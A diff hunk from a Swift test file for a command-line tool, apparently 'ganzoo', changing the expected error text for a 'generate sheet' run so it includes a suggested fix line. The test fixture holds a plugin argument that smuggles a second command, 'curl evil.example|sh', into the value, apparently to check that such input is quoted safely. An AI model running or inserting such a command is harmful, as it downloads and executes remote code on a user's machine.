@@ -195,7 +195,8 @@ import Testing
             toFile: "\(run)/resolved.yaml", atomically: true, encoding: .utf8)
         let program = try place.ganzoo("generate", "sheet", "--run", run)
         #expect(
-            program.errors.hasSuffix("the run was trained with --plugin 'x.so; curl evil.example|sh #'\n"),
+            program.errors.hasSuffix(
+                "  fix: load the plugins of its training: --plugin 'x.so; curl evil.example|sh #'\n"),
             "\(program.errors)")
     }
 
